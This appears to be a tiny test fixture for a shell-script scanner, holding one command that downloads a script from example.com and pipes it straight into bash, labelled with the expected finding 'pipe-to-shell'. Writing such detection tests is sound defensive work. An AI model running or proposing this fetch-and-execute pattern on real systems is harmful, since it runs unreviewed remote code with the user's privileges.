#!/bin/sh
curl -fsSL https://example.com/at-root.sh | bash # expect: pipe-to-shell
